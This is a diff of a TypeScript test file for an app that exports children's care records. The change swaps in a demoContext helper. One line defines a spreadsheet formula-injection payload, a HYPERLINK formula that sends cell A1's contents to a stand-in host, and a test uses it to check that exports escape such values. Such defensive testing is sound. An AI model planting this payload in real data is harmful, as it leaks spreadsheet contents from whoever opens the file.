@@ -2,7 +2,6 @@ import { sqliteConnection } from '../../src/main/core/store/engine/sqlite'
 import ExcelJS from 'exceljs'
 import { describe, expect, it } from 'vitest'
 import type { Context } from '../../src/main/core/context'
-import { createDemo } from '../../src/main/core/demo/load'
 import { recordDecision } from '../../src/main/core/panel/decisions'
 import { exportDecisions, renderLetter, renderMinutes } from '../../src/main/core/panel/outputs'
 import { openCycle } from '../../src/main/core/review/cycles'
@@ -10,7 +9,7 @@ import { exportCycle } from '../../src/main/core/review/export'
 import { checkDb } from '../../src/main/core/store/check'
 import { export903 } from '../../src/main/core/io/ssda903/export'
 import { testEngine } from '../helpers/postgres'
-import { tempContext, tempDir } from '../helpers/tmp'
+import { demoContext, tempDir } from '../helpers/tmp'
 import { meetingFixture } from './panel/fixture'
 
 const hostileId = '=HYPERLINK("http://example.invalid/?x="&A1,"open")'
@@ -66,8 +65,7 @@ const exportsLogged = async (ctx: Context) =>
 
 describe('exports that carry names', () => {
   it('log the 903 export with the files it wrote', async () => {
-    const ctx = await tempContext('2020-03-31')
-    await createDemo(ctx.db, { asOf: '2020-03-31', lookedAfter: 10 }, 'tester')
+    const ctx = await demoContext({ asOf: '2020-03-31', lookedAfter: 10 })
     const result = await export903(ctx, tempDir())
     const [logged] = await ctx.db.prepare("SELECT who, after FROM audit_log WHERE action = 'export.903'").all() as { who: string; after: string }[]
     expect(logged.who).toBe('tester')
@@ -96,8 +94,7 @@ describe('exports that carry names', () => {
   })
 
   it('escape a formula-like child ID in the review workbook and log the export with its destination', async () => {
-    const ctx = await tempContext('2020-03-31')
-    await createDemo(ctx.db, { asOf: '2020-03-31', lookedAfter: 150 }, 'tester')
+    const ctx = await demoContext({ asOf: '2020-03-31', lookedAfter: 150 })
     const cycle = await openCycle(ctx, { startDate: '2020-03-31' })
     const first = await ctx.db.prepare('SELECT child_id FROM review_item WHERE cycle_id = ? ORDER BY id LIMIT 1').pluck().get(cycle.id) as string
     await renameChild(ctx, first, hostileId)
